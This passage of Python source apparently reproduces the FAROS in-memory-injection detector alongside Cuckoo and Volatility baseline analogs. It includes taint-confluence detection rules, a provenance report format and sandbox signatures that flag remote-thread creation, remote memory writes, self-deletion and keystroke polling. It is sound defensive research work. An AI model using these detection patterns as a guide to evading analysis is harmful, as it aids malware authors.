Both are honest implementations of those tools' actual methodology --
they see what those tools see (events and one point-in-time snapshot),
and therefore miss what the paper says they miss: in-memory-only
behaviour, transient payloads, and all provenance.
"""

from repro.baselines.cuckoo import CuckooReport, CuckooSandbox
from repro.baselines.snapshot import MemorySnapshot
from repro.baselines.volatility import (
    DllListEntry,
    MalfindHit,
    PsListEntry,
    VadInfoEntry,
    dlllist,
    hexdump,
    malfind,
    pslist,
    vadinfo,
)

__all__ = [
    "CuckooReport",
    "CuckooSandbox",
    "DllListEntry",
    "MalfindHit",
    "MemorySnapshot",
    "PsListEntry",
    "VadInfoEntry",
    "dlllist",
    "hexdump",
    "malfind",
    "pslist",
    "vadinfo",
]
