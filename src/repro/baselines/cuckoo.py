"""The CuckooBox analog: event-based sandbox analysis (§VI-B).

Cuckoo's visibility is (i) hooked API calls, (ii) file-system
artifacts, (iii) network traffic, (iv) the process tree, and (v) one
final memory dump it can hand to Volatility plugins.  This class
reproduces that pipeline over our guest: it runs a scenario with the
``syscalls2`` tracer and OSI attached (no taint -- Cuckoo has none) and
produces a behaviour report with generic signatures.

Its injection verdict follows the paper's experiments:

* **without malfind** it looks for the evidence those experiments
  looked for -- an injected DLL in a module list, an anomalous process
  in ``pslist`` -- and comes up empty for all three attack classes;
* **with malfind** it scans the final dump for PE-bearing anonymous
  executable memory, which finds *persistent* payloads but yields "no
  netflow, memory addresses, or full provenance history", and misses
  payloads that wiped themselves before the dump.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Tuple

from repro.baselines.volatility import MalfindHit, PsListEntry, malfind, pslist
from repro.emulator.record_replay import Scenario
from repro.faros.osi import OSIPlugin
from repro.faros.syscalls2 import SyscallEvent, Syscalls2Plugin
from repro.guestos.syscalls import Sys

#: Image names every Windows box has; anything else in pslist is "new".
_WELL_KNOWN = {
    "svchost.exe",
    "explorer.exe",
    "notepad.exe",
    "firefox.exe",
    "calc.exe",
    "winlogon.exe",
}


@dataclass
class Signature:
    """One triggered behavioural signature (Cuckoo's 'signatures' pane)."""

    name: str
    description: str
    process: str

    def __str__(self) -> str:
        return f"[{self.name}] {self.process}: {self.description}"


@dataclass
class CuckooReport:
    """The artifact of one sandbox run."""

    scenario_name: str
    api_calls: List[SyscallEvent]
    processes: List[PsListEntry]
    files_created: List[str]
    files_deleted: List[str]
    netflows: List[Tuple[str, int, str, int]]
    tx_packets: int
    registered_dll_loads: List[Tuple[str, str]]  # (process, dll path)
    signatures: List[Signature]
    console: List[Tuple[int, str]]
    #: The final machine state -- Cuckoo's full memory dump.
    dump: object = None

    # ------------------------------------------------------------------
    # the §VI-B injection verdicts
    # ------------------------------------------------------------------

    def detect_injection(self) -> bool:
        """Cuckoo's own (malfind-less) verdict.

        Methodology as in the paper's experiments: look for the injected
        DLL in any module list, and for unexpected processes in pslist.
        Reflective loading registers nothing; hollowing hides behind a
        well-known name; code injection leaves the victim's module list
        untouched -- so this returns False for all three attack classes.
        """
        for process, dll in self.registered_dll_loads:
            if not self._dll_is_known(dll):
                return True
        for entry in self.processes:
            if entry.name.lower() not in _WELL_KNOWN and entry.parent_pid is not None:
                # An unknown *child* process would warrant a look, but is
                # not injection evidence by itself; Cuckoo lists it only.
                continue
        return False

    def detect_injection_with_malfind(self) -> Tuple[bool, List[MalfindHit]]:
        """The Cuckoo + Volatility/malfind pipeline over the final dump."""
        if self.dump is None:
            return False, []
        hits = malfind(self.dump)
        return any(h.detected for h in hits), hits

    def _dll_is_known(self, path: str) -> bool:
        return path.lower().endswith((".dll",)) and "kernel32" in path.lower()

    # ------------------------------------------------------------------
    # rendering (the Cuckoo web-report analog)
    # ------------------------------------------------------------------

    def render(self, max_api_rows: int = 25) -> str:
        lines = [f"=== Cuckoo analysis report: {self.scenario_name} ==="]
        lines.append("\n-- processes --")
        lines.extend(f"  {entry}" for entry in self.processes)
        lines.append("\n-- signatures --")
        if self.signatures:
            lines.extend(f"  {sig}" for sig in self.signatures)
        else:
            lines.append("  (none triggered)")
        lines.append("\n-- network --")
        if self.netflows:
            for src_ip, src_port, dst_ip, dst_port in self.netflows:
                lines.append(f"  {src_ip}:{src_port} -> {dst_ip}:{dst_port}")
        lines.append(f"  {self.tx_packets} packets transmitted by the guest")
        lines.append("\n-- filesystem --")
        for path in self.files_created:
            lines.append(f"  created: {path}")
        for path in self.files_deleted:
            lines.append(f"  deleted: {path}")
        lines.append(f"\n-- api calls (first {max_api_rows}) --")
        lines.extend(f"  {event}" for event in self.api_calls[:max_api_rows])
        if len(self.api_calls) > max_api_rows:
            lines.append(f"  ... {len(self.api_calls) - max_api_rows} more")
        verdict = self.detect_injection()
        malfind_verdict, _ = self.detect_injection_with_malfind()
        lines.append(
            f"\nverdicts: injection={verdict} injection_with_malfind={malfind_verdict}"
        )
        return "\n".join(lines)


class CuckooSandbox:
    """Run scenarios the way Cuckoo runs samples."""

    def analyze(self, scenario: Scenario) -> CuckooReport:
        """Execute *scenario* with event tracing and build the report."""
        tracer = Syscalls2Plugin()
        osi = OSIPlugin()
        machine = scenario.run(plugins=[tracer, osi])
        return self._build_report(scenario, machine, tracer)

    def _build_report(self, scenario, machine, tracer) -> CuckooReport:
        created = [
            path for op, path in machine.kernel.fs.audit_log if op == "create"
        ]
        deleted = [
            path for op, path in machine.kernel.fs.audit_log if op == "delete"
        ]
        dll_loads = [
            (e.process, str(e.args.get("path", "")))
            for e in tracer.events
            if e.number == Sys.LOAD_DLL
        ]
        report = CuckooReport(
            scenario_name=scenario.name,
            api_calls=list(tracer.events),
            processes=pslist(machine),
            files_created=created,
            files_deleted=deleted,
            netflows=list(machine.kernel.netstack.seen_flows),
            tx_packets=len(machine.devices.nic.tx_log),
            registered_dll_loads=dll_loads,
            signatures=[],
            console=list(machine.kernel.console_log),
            dump=machine,
        )
        report.signatures = self._run_signatures(report)
        return report

    # ------------------------------------------------------------------
    # generic behaviour signatures (observations, not injection verdicts)
    # ------------------------------------------------------------------

    def _run_signatures(self, report: CuckooReport) -> List[Signature]:
        signatures: List[Signature] = []
        by_process: dict = {}
        for event in report.api_calls:
            by_process.setdefault(event.process, []).append(event)
        for process, events in by_process.items():
            numbers = {e.number for e in events}
            if Sys.WRITE_VM in numbers:
                signatures.append(
                    Signature(
                        "writes_remote_memory",
                        "writes into another process' memory "
                        "(also common benign behaviour, e.g. debugging)",
                        process,
                    )
                )
            if Sys.CREATE_REMOTE_THREAD in numbers:
                signatures.append(
                    Signature(
                        "creates_remote_thread",
                        "creates a thread in another process",
                        process,
                    )
                )
            if Sys.CREATE_PROCESS in numbers:
                suspended = any(
                    e.number == Sys.CREATE_PROCESS and e.args.get("suspended")
                    for e in events
                )
                if suspended:
                    signatures.append(
                        Signature(
                            "creates_suspended_process",
                            "spawns a process in the suspended state",
                            process,
                        )
                    )
            if Sys.DELETE_FILE in numbers:
                own_deletes = [
                    e for e in events
                    if e.number == Sys.DELETE_FILE
                    and str(e.args.get("path", "")).lower() == process.lower()
                ]
                if own_deletes:
                    signatures.append(
                        Signature("deletes_self", "deletes its own image from disk", process)
                    )
            if Sys.CONNECT in numbers:
                signatures.append(
                    Signature("network_connection", "connects to a remote host", process)
                )
            if Sys.READ_KEYS in numbers:
                signatures.append(
                    Signature("reads_keystrokes", "polls the keyboard state", process)
                )
        return signatures
