"""FAROS output rendering (Table II, Figs. 7-10 style).

The paper's output is a table mapping memory addresses of flagged
instructions to their provenance lists, rendered like::

    0x83B07019  NetFlow: {src ip,port: 169.254.26.161:4444, dest
                ip.port: 169.254.57.168:49162} ->Process:
                inject_client.exe ->Process: notepad.exe;

plus, per flagged load, the provenance of the export-table address it
read.  :class:`FarosReport` carries the structured results and renders
them; the benchmark harness asserts against the structure and prints the
rendering.
"""

from __future__ import annotations

import warnings
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.faros.detector import FlaggedInstruction
from repro.taint.tags import Tag, TagStore, TagType

Prov = Tuple[Tag, ...]


def _warn_renamed(old: str, new: str) -> None:
    """One DeprecationWarning per legacy export-API call site."""
    warnings.warn(
        f"{old} is deprecated; use {new} -- same JSON shape, but the "
        "to_json_dict/from_json_dict pair names the symmetric contract",
        DeprecationWarning,
        stacklevel=3,
    )


def render_provenance(tags: TagStore, prov: Prov) -> str:
    """Render a provenance list in the paper's arrow chronology."""
    if not prov:
        return "(untainted)"
    return " ->".join(tags.describe(tag) for tag in prov) + ";"


@dataclass
class ProvenanceChain:
    """Structured view of one flagged instruction (a Fig. 7-10 diagram)."""

    instruction_address: int
    instruction: str
    executing_process: str
    netflow: Optional[str]          # "src_ip:src_port -> dst_ip:dst_port"
    process_chain: List[str]        # process names in chronological order
    file_origins: List[str]         # "name v<n>" for any file tags
    export_table_address: int       # the read that triggered the flag
    rule: str
    #: With augmented export tags: which API the flagged load resolved
    #: (e.g. "LoadLibraryA"), else None.
    resolved_function: Optional[str] = None
    #: Netflow recovered by stitching across a disk hop: when the chain
    #: itself has no netflow but its file origin was written from
    #: network-derived bytes, this names that upstream flow.
    stitched_netflow: Optional[str] = None
    #: Processes from the stitched upstream chain (e.g. the dropper).
    upstream_processes: List[str] = field(default_factory=list)

    def to_json_dict(self) -> dict:
        """JSON-shaped chain; inverse of :meth:`from_json_dict`."""
        return {
            "instruction_address": self.instruction_address,
            "instruction": self.instruction,
            "executing_process": self.executing_process,
            "netflow": self.netflow,
            "stitched_netflow": self.stitched_netflow,
            "process_chain": list(self.process_chain),
            "upstream_processes": list(self.upstream_processes),
            "file_origins": list(self.file_origins),
            "export_table_address": self.export_table_address,
            "resolved_function": self.resolved_function,
            "rule": self.rule,
        }

    @classmethod
    def from_json_dict(cls, d: dict) -> "ProvenanceChain":
        """Rebuild a chain from :meth:`to_json_dict` output."""
        return cls(
            instruction_address=d["instruction_address"],
            instruction=d["instruction"],
            executing_process=d["executing_process"],
            netflow=d["netflow"],
            process_chain=list(d["process_chain"]),
            file_origins=list(d["file_origins"]),
            export_table_address=d["export_table_address"],
            rule=d["rule"],
            resolved_function=d["resolved_function"],
            stitched_netflow=d["stitched_netflow"],
            upstream_processes=list(d["upstream_processes"]),
        )

    def to_dict(self) -> dict:
        """Deprecated alias of :meth:`to_json_dict`."""
        _warn_renamed("ProvenanceChain.to_dict", "to_json_dict")
        return self.to_json_dict()

    @classmethod
    def from_dict(cls, d: dict) -> "ProvenanceChain":
        """Deprecated alias of :meth:`from_json_dict`."""
        _warn_renamed("ProvenanceChain.from_dict", "from_json_dict")
        return cls.from_json_dict(d)


@dataclass
class FarosReport:
    """Everything FAROS learned from one analysis run."""

    flagged: List[FlaggedInstruction]
    tag_store: TagStore
    tainted_bytes: int
    tag_map_sizes: Dict[str, int]
    instructions_analyzed: int
    #: path (lowercase) -> [(version, buffer provenance at write time)].
    file_lineage: Dict[str, List[Tuple[int, Prov]]] = field(default_factory=dict)
    #: Observability snapshot for the run that produced this report
    #: (:meth:`repro.obs.session.ObsSession.snapshot`), or None when the
    #: run was not instrumented.  Injected by the analysis runners so the
    #: same numbers appear in ``repro stats`` and triage JSON exports.
    metrics: Optional[dict] = None
    #: The fault that perturbed or ended the producing run, as a
    #: :meth:`~repro.faults.errors.FaultRecord.to_json_dict` dict, or
    #: None for a clean run.  A report with a fault is *degraded*: its
    #: numbers describe the prefix of execution that completed.
    fault: Optional[dict] = None

    @property
    def attack_detected(self) -> bool:
        return bool(self.flagged)

    @property
    def degraded(self) -> bool:
        """True when the producing run was cut short or perturbed by a
        fault -- the report is still valid, but partial."""
        return self.fault is not None

    def origin_of_file(self, path: str, before_version: int) -> Prov:
        """Provenance of the most recent write to *path* whose version
        precedes *before_version* (i.e. the write a later read saw)."""
        entries = self.file_lineage.get(path.lower(), [])
        best: Prov = ()
        for version, prov in entries:
            if version < before_version:
                best = prov
        return best

    def chains(self) -> List[ProvenanceChain]:
        """One structured provenance chain per flagged instruction."""
        out = []
        for f in self.flagged:
            netflow = None
            processes: List[str] = []
            files: List[str] = []
            file_payloads = []
            for tag in f.insn_prov:
                if tag.type is TagType.NETFLOW and netflow is None:
                    p = self.tag_store.netflow_payload(tag)
                    netflow = f"{p.src_ip}:{p.src_port} -> {p.dst_ip}:{p.dst_port}"
                elif tag.type is TagType.PROCESS:
                    cr3 = self.tag_store.process_cr3(tag)
                    processes.append(self.tag_store.process_names.get(cr3, f"cr3={cr3:#x}"))
                elif tag.type is TagType.FILE:
                    payload = self.tag_store.file_payload(tag)
                    files.append(f"{payload.name} v{payload.version}")
                    file_payloads.append(payload)
            # Stitch across the disk: if no direct netflow, consult the
            # lineage of the file the bytes were read out of.
            stitched_netflow = None
            upstream: List[str] = []
            if netflow is None:
                for payload in file_payloads:
                    for tag in self.origin_of_file(payload.name, payload.version):
                        if tag.type is TagType.NETFLOW and stitched_netflow is None:
                            p = self.tag_store.netflow_payload(tag)
                            stitched_netflow = (
                                f"{p.src_ip}:{p.src_port} -> {p.dst_ip}:{p.dst_port}"
                            )
                        elif tag.type is TagType.PROCESS:
                            cr3 = self.tag_store.process_cr3(tag)
                            name = self.tag_store.process_names.get(cr3, f"cr3={cr3:#x}")
                            if name not in upstream:
                                upstream.append(name)
                    if stitched_netflow:
                        break
            resolved = None
            for tag in f.read_prov:
                if tag.type is TagType.EXPORT_TABLE:
                    resolved = self.tag_store.export_function(tag)
                    if resolved:
                        break
            out.append(
                ProvenanceChain(
                    instruction_address=f.pc,
                    instruction=f.insn_text,
                    executing_process=f.executing_process,
                    netflow=netflow,
                    process_chain=processes,
                    file_origins=files,
                    export_table_address=f.read_vaddr,
                    rule=f.rule,
                    resolved_function=resolved,
                    stitched_netflow=stitched_netflow,
                    upstream_processes=upstream,
                )
            )
        return out

    def _flag_dicts(self) -> List[dict]:
        return [
            {
                "tick": c_flag.tick,
                "pc": c_flag.pc,
                "instruction": c_flag.insn_text,
                "executing_process": c_flag.executing_process,
                "executing_pid": c_flag.executing_pid,
                "read_vaddr": c_flag.read_vaddr,
                "rule": c_flag.rule,
                "provenance": [
                    self.tag_store.describe(tag) for tag in c_flag.insn_prov
                ],
            }
            for c_flag in self.flagged
        ]

    def to_json_dict(self) -> dict:
        """Machine-readable report (for pipelines ingesting FAROS output).

        Symmetric with :meth:`ReportSummary.from_json_dict`:
        ``ReportSummary.from_json_dict(report.to_json_dict())`` equals
        ``report.summary()``.
        """
        return {
            "attack_detected": self.attack_detected,
            "instructions_analyzed": self.instructions_analyzed,
            "tainted_bytes": self.tainted_bytes,
            "tag_map_sizes": dict(self.tag_map_sizes),
            "flags": self._flag_dicts(),
            "chains": [chain.to_json_dict() for chain in self.chains()],
            "metrics": self.metrics,
            "degraded": self.degraded,
            "fault": self.fault,
        }

    def to_dict(self) -> dict:
        """Deprecated alias of :meth:`to_json_dict`."""
        _warn_renamed("FarosReport.to_dict", "to_json_dict")
        return self.to_json_dict()

    def summary(self) -> "ReportSummary":
        """The serializable face of this report (what crosses processes)."""
        return ReportSummary(
            attack_detected=self.attack_detected,
            instructions_analyzed=self.instructions_analyzed,
            tainted_bytes=self.tainted_bytes,
            tag_map_sizes=dict(self.tag_map_sizes),
            flags=self._flag_dicts(),
            chains=self.chains(),
            metrics=self.metrics,
            fault=self.fault,
        )

    def render(self) -> str:
        """The human-readable report (Table II format)."""
        lines = ["=== FAROS analysis report ==="]
        if self.degraded:
            fault = self.fault or {}
            lines.append(
                "DEGRADED RUN: "
                f"{fault.get('kind', 'fault')}: {fault.get('detail', '')} "
                "(results cover the completed prefix of execution)"
            )
        if not self.flagged:
            lines.append("no in-memory injection attack flagged")
        else:
            lines.append(
                f"IN-MEMORY INJECTION FLAGGED: {len(self.flagged)} instruction(s)"
            )
            lines.append(f"{'Memory Address':<16} Provenance List")
            for f in self.flagged:
                prov = render_provenance(self.tag_store, f.insn_prov)
                lines.append(f"{f.pc:#012x}    {prov}")
                lines.append(
                    f"{'':16}read export table @ {f.read_vaddr:#x} "
                    f"[{render_provenance(self.tag_store, f.read_prov)}] "
                    f"in {f.executing_process} ({f.rule})"
                )
        for chain in self.chains():
            if chain.stitched_netflow:
                lines.append(
                    f"{'':16}disk-hop lineage: content of "
                    f"{', '.join(chain.file_origins)} originated in "
                    f"NetFlow {chain.stitched_netflow} via "
                    f"{' -> '.join(chain.upstream_processes) or '(unknown)'}"
                )
        lines.append(
            f"-- {self.instructions_analyzed} instructions analyzed, "
            f"{self.tainted_bytes} tainted bytes, tag maps {self.tag_map_sizes}"
        )
        return "\n".join(lines)


@dataclass
class ReportSummary:
    """A :class:`FarosReport` without the live tag store.

    This is the **cross-process result channel**: a worker serializes
    its report with :meth:`FarosReport.to_json_dict`, ships it over a
    pipe (or JSON), and the aggregator reconstructs this summary.  It
    round-trips losslessly --
    ``ReportSummary.from_json_dict(r.to_json_dict())`` equals
    ``r.summary()`` -- which the report-export tests lock in for every
    attack scenario.
    """

    attack_detected: bool
    instructions_analyzed: int
    tainted_bytes: int
    tag_map_sizes: Dict[str, int]
    flags: List[dict]
    chains: List[ProvenanceChain]
    #: Observability snapshot of the producing run (or None).
    metrics: Optional[dict] = None
    #: Serialized fault record of the producing run (or None).
    fault: Optional[dict] = None

    @property
    def degraded(self) -> bool:
        return self.fault is not None

    def to_json_dict(self) -> dict:
        """Same shape as :meth:`FarosReport.to_json_dict`."""
        return {
            "attack_detected": self.attack_detected,
            "instructions_analyzed": self.instructions_analyzed,
            "tainted_bytes": self.tainted_bytes,
            "tag_map_sizes": dict(self.tag_map_sizes),
            "flags": [dict(flag) for flag in self.flags],
            "chains": [chain.to_json_dict() for chain in self.chains],
            "metrics": self.metrics,
            "degraded": self.degraded,
            "fault": self.fault,
        }

    @classmethod
    def from_json_dict(cls, d: dict) -> "ReportSummary":
        """Rebuild a summary from either side of the symmetric pair.

        ``metrics`` is read with ``.get`` so dicts produced before the
        observability layer existed still deserialize.
        """
        return cls(
            attack_detected=d["attack_detected"],
            instructions_analyzed=d["instructions_analyzed"],
            tainted_bytes=d["tainted_bytes"],
            tag_map_sizes=dict(d["tag_map_sizes"]),
            flags=[dict(flag) for flag in d["flags"]],
            chains=[ProvenanceChain.from_json_dict(c) for c in d["chains"]],
            metrics=d.get("metrics"),
            fault=d.get("fault"),
        )

    def to_dict(self) -> dict:
        """Deprecated alias of :meth:`to_json_dict`."""
        _warn_renamed("ReportSummary.to_dict", "to_json_dict")
        return self.to_json_dict()

    @classmethod
    def from_dict(cls, d: dict) -> "ReportSummary":
        """Deprecated alias of :meth:`from_json_dict`."""
        _warn_renamed("ReportSummary.from_dict", "from_json_dict")
        return cls.from_json_dict(d)
