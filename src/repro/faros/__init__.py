"""FAROS: the provenance-based in-memory-injection detector (the paper's
primary contribution).

:class:`~repro.faros.plugin.Faros` is an emulator plugin that combines:

1. **whole-system taint analysis** -- it drives a
   :class:`~repro.taint.tracker.TaintTracker` over every instruction and
   kernel-mediated copy;
2. **per-security-policy indirect-flow handling** -- no global
   address/control dependency propagation; instead the detection
   invariant is defined over *tag-type confluence* at a memory location;
3. **fine-grained provenance tags** -- netflow / process / file /
   export-table tags with full per-byte chronology.

The detection invariant (§V-B): flag a load instruction when the
instruction's *own bytes* carry a netflow tag plus process tag(s) (it is
injected, network-derived code) and the location it reads carries an
*export-table* tag (it is resolving imports the way shellcode does).
A second confluence rule covers network-less injections such as the
Lab 3-3 process-hollowing sample (Fig. 10), whose provenance shows only
``process -> process -> export table``.

Typical usage mirrors the paper's §V-C::

    recording = record(scenario)                 # cheap recording run
    faros = Faros()
    replay(recording, plugins=[faros])           # heavyweight analysis
    report = faros.report()
    print(report.render())                       # Table II-style output
"""

from repro.faros.detector import DetectionConfig, Detector, FlaggedInstruction
from repro.faros.osi import OSIPlugin
from repro.faros.plugin import Faros
from repro.faros.report import FarosReport, render_provenance
from repro.faros.syscalls2 import SyscallEvent, Syscalls2Plugin
from repro.faros.whitelist import DEFAULT_JIT_RUNTIMES, TriagedFlag, Whitelist

__all__ = [
    "DEFAULT_JIT_RUNTIMES",
    "DetectionConfig",
    "Detector",
    "Faros",
    "FarosReport",
    "FlaggedInstruction",
    "OSIPlugin",
    "SyscallEvent",
    "Syscalls2Plugin",
    "TriagedFlag",
    "Whitelist",
    "render_provenance",
]
