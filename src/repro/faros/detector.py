"""The tag-confluence detector (§IV, §V-B).

FAROS overcomes the indirect-flow dilemma *per security policy*: instead
of deciding globally whether to propagate address/control dependencies,
it watches for tags of different types "coming together" at one memory
location.  For in-memory injection the confluence is:

**Rule R1 (netflow confluence)** -- the paper's headline invariant: a
load/mov instruction whose own bytes carry a *netflow* tag and at least
one *process* tag reads a location tagged *export-table*.  Data from the
network is executing and resolving imports: reflective DLL injection,
network-delivered code injection, and the self-injection case of
``reverse_tcp_dns`` (Fig. 8, one process tag).

**Rule R2 (cross-process confluence)** -- the variant visible in the
paper's Fig. 10 hollowing provenance (``process_hollowing.exe ->
svchost.exe`` + export table, no netflow): the instruction's bytes carry
*two or more distinct process* tags -- written by one process, executed
by another -- and it reads export-table-tagged memory.

Both rules are policy, not mechanism: they are a few lines over the
provenance lists, which is the flexibility §VI-B argues lets FAROS adapt
to new attack techniques.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Set, Tuple

from repro.isa.instructions import format_instruction
from repro.obs.metrics import NULL_REGISTRY
from repro.taint.shadow import (
    SHADOW_PAGE_SHIFT,
    SUMMARY_EXPORT,
    SUMMARY_NETFLOW,
    SUMMARY_PROCESS,
    prov_class_mask,
)
from repro.taint.tags import Tag, TagStore, TagType
from repro.taint.tracker import LoadObservation

Prov = Tuple[Tag, ...]


@dataclass
class DetectionConfig:
    """Which confluence rules are active."""

    netflow_rule: bool = True        # R1
    cross_process_rule: bool = True  # R2


@dataclass
class FlaggedInstruction:
    """One detection: an injected instruction caught reading the export table."""

    tick: int
    pc: int
    insn_text: str
    executing_pid: int
    executing_process: str
    read_vaddr: int
    insn_prov: Prov
    read_prov: Prov
    rule: str

    def __str__(self) -> str:
        return (
            f"[{self.rule}] {self.executing_process}({self.executing_pid}) "
            f"pc={self.pc:#x} `{self.insn_text}` read {self.read_vaddr:#x}"
        )


class Detector:
    """Observes tainted loads and applies the confluence rules."""

    def __init__(
        self,
        tags: TagStore,
        config: Optional[DetectionConfig] = None,
        metrics=None,
        shadow=None,
        pipeline=None,
    ) -> None:
        """*shadow*, when it is a flag-cache-capable
        :class:`~repro.taint.shadow.ShadowMemory`, enables the per-page
        summary-word confluence pre-check in :meth:`observe_load`; any
        other value (e.g. the reference tracker's oracle shadow) is
        ignored and the detector scans read provenance directly.

        *pipeline*, when given, makes each confluence check a
        synchronization barrier on the decoupled taint transport: queued
        channel events are drained and soft-dropped (overtainted) pages
        have their flag-cache summaries revalidated before any pre-check
        is trusted."""
        self.tags = tags
        self.shadow = shadow if hasattr(shadow, "page_summary") else None
        self.pipeline = pipeline
        self.config = config or DetectionConfig()
        self.flagged: List[FlaggedInstruction] = []
        #: Callbacks invoked with each fresh FlaggedInstruction (e.g. the
        #: FAROS plugin's timeline recorder).
        self.on_flag = []
        #: Dedup key: (pc, executing cr3, read page) so a resolver loop
        #: scanning the whole export table yields a handful of entries,
        #: not one per entry compared.
        self._seen: Set[Tuple[int, int, int]] = set()
        m = metrics if metrics is not None else NULL_REGISTRY
        self._ctr_flags = m.counter("faros.detector.flags")
        self._ctr_by_rule = {
            "netflow+export-table": m.counter("faros.detector.flags.netflow"),
            "cross-process+export-table": m.counter(
                "faros.detector.flags.cross_process"
            ),
        }

    def observe_load(self, machine, obs: LoadObservation) -> None:
        """Load-listener callback wired into the taint tracker.

        The rule gates run on interned-provenance *class masks*
        (:func:`~repro.taint.shadow.prov_class_mask` memoises per
        provenance value), so the common armed-but-innocent load costs
        two bit tests.  Only R2 -- which needs *distinct* process tags,
        not just the class bit -- still walks the provenance list, and
        only after the process-class gate passed.
        """
        insn_prov = obs.insn_prov
        if not insn_prov:
            return
        mask = prov_class_mask(insn_prov)
        if not mask & SUMMARY_PROCESS:
            return

        rule = None
        if self.config.netflow_rule and mask & SUMMARY_NETFLOW:
            rule = "netflow+export-table"
        elif self.config.cross_process_rule and (
            len({t for t in insn_prov if t.type is TagType.PROCESS}) >= 2
        ):
            rule = "cross-process+export-table"
        if rule is None:
            return

        pipeline = self.pipeline
        if pipeline is not None:
            # Confluence checks are synchronization barriers on the
            # decoupled transport (ISSUE 8): any still-queued channel
            # events are applied, and pages degraded by soft-drop get
            # their summary words recomputed before the flag-cache
            # pre-check below is allowed to prove anything.  During
            # machine runs the queue is already empty here (slices
            # drain at the dispatch plan), so this is two truth tests.
            pipeline.pre_confluence()

        shadow = self.shadow
        if shadow is not None:
            # Confluence pre-check as a flag-cache probe: one summary
            # word per touched shadow page (an access spans at most two
            # -- bytes within each 256-byte guest page are physically
            # consecutive).  Summaries never under-report a class still
            # present on the page, so a missing EXPORT bit proves no
            # read below can carry an export tag.
            shift = SHADOW_PAGE_SHIFT
            summary = 0
            for access, _ in obs.reads:
                paddrs = access.paddrs
                first = paddrs[0] >> shift
                summary |= shadow.page_summary(first)
                last = paddrs[-1] >> shift
                if last != first:
                    summary |= shadow.page_summary(last)
            if not summary & SUMMARY_EXPORT:
                return

        for access, read_prov in obs.reads:
            if not read_prov or not prov_class_mask(read_prov) & SUMMARY_EXPORT:
                continue
            thread = obs.thread
            key = (obs.fx.pc, thread.process.cr3, access.vaddr >> 8)
            if key in self._seen:
                continue
            self._seen.add(key)
            flagged = FlaggedInstruction(
                tick=machine.now,
                pc=obs.fx.pc,
                insn_text=format_instruction(obs.fx.insn),
                executing_pid=thread.process.pid,
                executing_process=thread.process.name,
                read_vaddr=access.vaddr,
                insn_prov=insn_prov,
                read_prov=read_prov,
                rule=rule,
            )
            self.flagged.append(flagged)
            self._ctr_flags.inc()
            self._ctr_by_rule[rule].inc()
            for callback in self.on_flag:
                callback(flagged)

    @property
    def attack_detected(self) -> bool:
        return bool(self.flagged)
