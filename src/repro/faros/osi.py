"""OS introspection (the PANDA ``OSI``/``Win7x86intro`` analog).

FAROS needs to translate architectural identities (CR3 values) into the
process names an analyst reads in reports, and to know when processes
appear and disappear.  This plugin watches the process-lifecycle
callbacks and maintains that mapping -- the same information PANDA's OSI
plugins recover by parsing ``EPROCESS`` structures in guest memory.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional

from repro.emulator.plugins import Plugin


@dataclass
class ProcessInfo:
    """A point-in-time view of one guest process."""

    pid: int
    name: str
    cr3: int
    parent_pid: Optional[int]
    created_at: int
    exited_at: Optional[int] = None
    exit_code: Optional[int] = None
    created_suspended: bool = False

    @property
    def alive(self) -> bool:
        return self.exited_at is None


class OSIPlugin(Plugin):
    """Tracks the guest process table via lifecycle callbacks."""

    def __init__(self) -> None:
        super().__init__()
        self._by_pid: Dict[int, ProcessInfo] = {}
        self._by_cr3: Dict[int, ProcessInfo] = {}

    # -- callbacks ---------------------------------------------------------------

    def on_process_create(self, machine, process) -> None:
        info = ProcessInfo(
            pid=process.pid,
            name=process.name,
            cr3=process.cr3,
            parent_pid=process.parent_pid,
            created_at=machine.now,
            created_suspended=process.created_suspended,
        )
        self._by_pid[info.pid] = info
        self._by_cr3[info.cr3] = info

    def on_process_exit(self, machine, process, status) -> None:
        info = self._by_pid.get(process.pid)
        if info is not None:
            info.exited_at = machine.now
            info.exit_code = status

    # -- queries -----------------------------------------------------------------

    def process_list(self) -> List[ProcessInfo]:
        """All processes ever seen, in pid order (the ``pslist`` view)."""
        return [self._by_pid[pid] for pid in sorted(self._by_pid)]

    def by_cr3(self, cr3: int) -> Optional[ProcessInfo]:
        return self._by_cr3.get(cr3)

    def by_pid(self, pid: int) -> Optional[ProcessInfo]:
        return self._by_pid.get(pid)

    def name_for_cr3(self, cr3: int) -> str:
        info = self._by_cr3.get(cr3)
        return info.name if info else f"cr3={cr3:#x}"
