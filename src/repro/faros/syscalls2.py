"""Syscall tracing with argument decoding (the PANDA ``syscalls2`` analog).

The paper modified ``syscalls2`` "to get the system calls arguments and
follow their pointer arguments" (§V).  This plugin does the same: on
every syscall entry it decodes the argument registers against the
:mod:`repro.guestos.syscalls` metadata, dereferencing string pointers in
guest memory, and records one :class:`SyscallEvent` with the eventual
result.

The trace doubles as the API log the Cuckoo baseline analyses -- real
Cuckoo hooks user-mode API calls, which in this guest are 1:1 with
syscalls.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.emulator.plugins import Plugin
from repro.guestos.syscalls import ArgKind, arg_specs, syscall_name
from repro.isa.cpu import AccessKind


@dataclass
class SyscallEvent:
    """One traced syscall."""

    tick: int
    pid: int
    process: str
    number: int
    name: str
    args: Dict[str, object] = field(default_factory=dict)
    result: Optional[int] = None

    def __str__(self) -> str:
        rendered = ", ".join(f"{k}={v!r}" for k, v in self.args.items())
        result = "?" if self.result is None else f"{self.result:#x}"
        return f"[{self.tick}] {self.process}({self.pid}) {self.name}({rendered}) = {result}"


class Syscalls2Plugin(Plugin):
    """Records every syscall with decoded arguments."""

    def __init__(self, max_events: int = 100_000) -> None:
        super().__init__()
        self.events: List[SyscallEvent] = []
        self._max_events = max_events
        # Blocking syscalls complete later; match returns by (tid, number).
        self._pending: Dict[Tuple[int, int], SyscallEvent] = {}

    def on_syscall_enter(self, machine, thread, number, args) -> None:
        if len(self.events) >= self._max_events:
            return
        event = SyscallEvent(
            tick=machine.now,
            pid=thread.process.pid,
            process=thread.process.name,
            number=number,
            name=syscall_name(number),
            args=self._decode_args(thread.process, number, args),
        )
        self.events.append(event)
        self._pending[(thread.tid, number)] = event

    def on_syscall_return(self, machine, thread, number, result) -> None:
        event = self._pending.pop((thread.tid, number), None)
        if event is not None:
            event.result = result & 0xFFFFFFFF

    # -- decoding ------------------------------------------------------------------

